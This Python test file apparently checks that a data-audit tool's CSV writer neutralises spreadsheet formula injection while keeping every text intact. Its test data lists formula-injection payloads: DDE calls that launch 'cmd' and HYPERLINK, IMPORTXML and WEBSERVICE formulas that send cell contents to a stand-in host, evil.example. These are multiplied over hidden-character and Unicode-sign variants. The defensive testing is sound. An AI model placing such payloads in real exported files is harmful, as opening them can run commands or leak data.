"""No text of the data is a formula in a spreadsheet, and each can be had back.

Held against a model of what spreadsheets do, as none can be run here: a field whose first sign, behind blanks and
signs that are not seen, is one of theirs is a formula.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest

from dsaudit.run.rows import write_rows

CALLS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"an order")', "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML("http://evil.example","//a")', 'WEBSERVICE("http://evil.example")', "DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "−"]
AHEAD = ["", " ", "\t", "\r", "\n", "\r\n", "\0", "\ufeff", "\u00a0", "\u3000", "\u200b", "\u202e", "\u2066", "\x1b"]
FORMULAS = [f"{ahead}{sign}{call}" for ahead in AHEAD for sign in SIGNS for call in CALLS]
FORMULAS += [f"{first}{text}" for first in "\t\r\n\0" for text in ("1", "x", "=1", "")]
FORMULAS += ["=", "-", "@", "+", "-5", "+49 30 1234", "@ada", "-- none --", "=\n=1", '="x"', "=1,=2", "==1", "−5"]
TEXTS = ["", " ", "'", "'=1", "''", "O'Neill", "'quoted'", "a=b", "5-3", "ada@example.org", "Zoë", "NULL", 'a "b", c']
TEXTS += ["1", "1.50", "007", "x;=1", "two\nlines", "two\r\nlines", "\\N", "\\.", "🦊", "{}", "a\tb"]


def is_formula(field: str) -> bool:
    seen = [sign for sign in field if not (sign.isspace() or unicodedata.category(sign) in ("Cc", "Cf"))]
    return unicodedata.normalize("NFKC", "".join(seen[:1])) in {"=", "+", "-", "@", "\u2212"} or field[:1] in set(
        "\t\r\n\0"
    ) - {""}


def written(folder: Path, rows: list[dict[str, object]]) -> str:
    (folder / "private" / "rows").mkdir(parents=True)
    lines = "".join(json.dumps(row) + "\n" for row in rows)
    (folder / "private" / "rows" / "one.jsonl").write_text(lines, encoding="utf-8")
    assert write_rows(folder, "one", folder / "rows.csv") == len(rows)
    return (folder / "rows.csv").read_bytes().decode()


def test_there_are_enough() -> None:
    assert len(set(FORMULAS)) == len(FORMULAS) > 1000
    assert all(map(is_formula, FORMULAS)) and not any(map(is_formula, TEXTS))


def test_no_field_is_a_formula_and_each_text_comes_back(tmp_path: Path) -> None:
    given = [*FORMULAS, *TEXTS]
    text = written(tmp_path, [{"=name": value} for value in given])
    fields = [row[0] for row in csv.reader(io.StringIO(text, newline=""), strict=True)]
    assert fields[0] == "'=name"
    assert [field for field in fields if is_formula(field)] == []
    assert [field.removeprefix("'") for field in fields[1:]] == given


def test_the_lines_of_json_hold_every_text_as_it_is(tmp_path: Path) -> None:
    written(tmp_path, [{"text": value} for value in FORMULAS])
    write_rows(tmp_path, "one", tmp_path / "rows.jsonl")
    lines = (tmp_path / "rows.jsonl").read_text(encoding="utf-8").split("\n")[:-1]
    assert [json.loads(line)["text"] for line in lines] == FORMULAS


def test_null_is_told_from_an_empty_text_and_numbers_are_numbers(tmp_path: Path) -> None:
    row = {"null": None, "empty": "", "minus": -5, "half": -0.5, "truth": True, "list": ["=1"]}
    assert written(tmp_path, [row]).split("\r\n")[1] == ',"",-5,-0.5,True,"[""=1""]"'


@pytest.mark.parametrize("text", ["'=1", "''", "'"])
def test_an_apostrophe_of_its_own_is_kept(tmp_path: Path, text: str) -> None:
    assert written(tmp_path, [{"text": text}]).split("\r\n")[1] == f'"\'{text}"'
